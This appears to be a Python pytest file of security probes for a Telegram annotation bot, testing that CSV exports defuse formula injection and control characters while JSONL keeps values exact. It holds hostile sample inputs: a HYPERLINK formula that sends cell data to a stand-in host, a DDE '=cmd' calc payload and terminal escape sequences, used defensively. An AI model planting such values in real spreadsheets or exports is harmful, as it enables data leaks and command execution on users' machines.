"""Security probes from the hardening review (issue 10), run against the real bots.

CSV injection in exports, gold gaming with Undo, forged webhook updates, non-ASCII auth headers
and invite-code guessing: each probe is the attack as it was tried, and what must happen instead.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from chatlabel import exporter
from tests.telegram_harness import new_message, next_item, project, running_bot

pytestmark = pytest.mark.timeout(30)

# -- CSV injection --------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1\x1b[31mred",
    "esc \x1b[2J in the middle",
    "csi \x9b and del \x7f and bell \x07",
    "plain answer, with a comma",
    "multi\nline = fine",
]
IDS = ["=1+1", "@id", "\t=2", "\r=3", "id\x1bwith-esc", "-7", "+x", "ok-id"]
NAMES = ["=cmd|' /C calc'!A0", "@Mallory", "\x1b]0;owned\x07Eve"]
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def assert_spreadsheet_safe(text: str) -> list[list[str]]:
    """Every cell of a CSV export is inert in a spreadsheet; returns the parsed rows."""
    assert not _CONTROL.search(text), "a control character reached the CSV file"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                assert _NUMBER.fullmatch(cell), f"live formula in CSV: {cell!r}"
    return rows


async def test_csv_exports_defuse_formulas_and_control_characters_jsonl_stays_exact(
    tmp_path: Path,
) -> None:
    notes = project("notes", kind="text", labels=[], overlap=1, max_overlap=1)
    async with running_bot(tmp_path, [notes]) as b:
        n_items = len(FORMULAS) + len(IDS)
        ids = IDS + [f"t{n}" for n in range(n_items - len(IDS))]
        await b.add_items("notes", [{"id": i, "text": f"Item {n}"} for n, i in enumerate(ids)])
        answers = FORMULAS + [f"answer {n}" for n in range(n_items - len(FORMULAS))]
        people = [b.user(100 + n, name) for n, name in enumerate(NAMES)]
        sent: dict[str, str] = {}  # item text -> answer
        for n, text in enumerate(answers):
            user = people[n % len(people)]
            if n < len(people):
                item = await b.start(user)
            else:
                item = await next_item(user, user.messages[-1].message_id - 2)
            last = user.messages[-1].message_id
            sent[item.content.split("\n\n")[0]] = text
            await user.send(text)
            await new_message(
                user, last, lambda m: "Item" in m.content or "everything" in m.content
            )
        assert len(await b.answers()) == n_items

        async def export(what: Any, fmt: Any) -> str:
            out = io.StringIO()
            await exporter.write(b.service, "notes", what, fmt, out)
            return out.getvalue()

        # JSONL stays exact: the values as they were written.
        jsonl = [json.loads(line) for line in (await export("answers", "jsonl")).splitlines()]
        assert sorted(r["label"] for r in jsonl) == sorted(answers)
        assert sorted(r["item_id"] for r in jsonl) == sorted(ids)
        people_jsonl = [json.loads(x) for x in (await export("annotators", "jsonl")).splitlines()]
        assert sorted(r["name"] for r in people_jsonl) == sorted(NAMES)
        # CSV is inert, and says the same thing once the ' and the \xNN are read back.
        tried = 0
        for what in ("results", "answers", "annotators"):
            rows = assert_spreadsheet_safe(await export(what, "csv"))
            tried += sum(len(r) for r in rows)
        answers_csv = assert_spreadsheet_safe(await export("answers", "csv"))[1:]
        by_id = {r[0]: r[2] for r in answers_csv}
        # A CR is a line break in CSV (Python's writer would not quote a field for it).
        assert by_id["'=1+1"] and by_id["'@id"] and by_id["'\t=2"] and by_id["'\n=3"]
        assert "id\\x1bwith-esc" in by_id and "-7" in by_id and "'+x" in by_id
        values = sorted(r[2] for r in answers_csv)
        assert '\'=HYPERLINK("http://x/?"&A1,"x")' in values
        assert "'=1\\x1b[31mred" in values and "-2+3" not in values and "'-2+3" in values
        assert "esc \\x1b[2J in the middle" in values
        assert "csi \\x9b and del \\x7f and bell \\x07" in values
        assert "plain answer, with a comma" in values and "multi\nline = fine" in values
        names = {r[1] for r in assert_spreadsheet_safe(await export("annotators", "csv"))[1:]}
        assert names == {"'=cmd|' /C calc'!A0", "'@Mallory", "\\x1b]0;owned\\x07Eve"}
        assert tried > 100
